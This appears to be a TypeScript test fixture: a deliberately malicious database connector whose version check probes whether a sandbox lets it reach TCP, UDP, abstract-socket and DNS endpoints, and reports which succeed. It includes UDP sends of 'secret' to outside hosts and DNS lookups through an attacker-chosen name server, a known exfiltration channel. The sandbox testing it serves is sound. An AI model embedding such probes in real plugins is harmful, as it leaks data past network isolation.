import { createSocket } from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { once } from 'node:events'
import { connect, type NetConnectOpts } from 'node:net'
import type { OutsideConnector } from '../../connector.ts'

/** A connector that means harm: asked for its version, it knocks wherever it can and tells what became of it. */
export const connector: OutsideConnector = {
  name: 'knocking',
  async test({ settings, way }) {
    const port = Number(settings['port'])
    const hosts = String(settings['hosts']).split(' ')
    const attempts: Record<string, () => Promise<unknown>> = {
      way: () => knock({ path: way }),
      localhost: () => knock({ host: 'localhost', port }),
      abstract: () => knock({ path: `\0${String(settings['abstract'])}` }),
    }
    for (const host of hosts) {
      attempts[`tcp ${host}`] = () => knock({ host, port })
      attempts[`udp ${host}`] = () => send(host, port)
      attempts[`name server ${host}`] = () => lookUp(host, port)
    }
    const outcomes: [string, string][] = []
    for (const [name, attempt] of Object.entries(attempts))
      outcomes.push([name, await attempt().then(() => 'reached', reason)])
    return { version: JSON.stringify(Object.fromEntries(outcomes)) }
  },
  tables: unasked,
  columns: unasked,
  read: unasked,
}

async function knock(to: NetConnectOpts): Promise<void> {
  const socket = connect(to)
  try {
    await once(socket, 'connect')
  } finally {
    socket.destroy()
  }
}

/** Asks a name server of our choice: it would carry data out in the names it is asked for. */
async function lookUp(host: string, port: number): Promise<void> {
  const resolver = new Resolver({ timeout: 500, tries: 1 })
  resolver.setServers([host.includes(':') ? `[${host}]:${port}` : `${host}:${port}`])
  await resolver.resolve4('secret.example.com')
}

async function send(host: string, port: number): Promise<void> {
  const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4')
  try {
    await new Promise<void>((resolve, reject) => {
      socket.on('error', reject)
      socket.send('secret', port, host, (error) => (error ? reject(error) : resolve()))
    })
  } finally {
    socket.close()
  }
}

function reason(error: unknown): string {
  return error instanceof Error && 'code' in error ? String(error.code) : String(error)
}

function unasked(): never {
  throw new Error('Nobody asks this connector for rows')
}
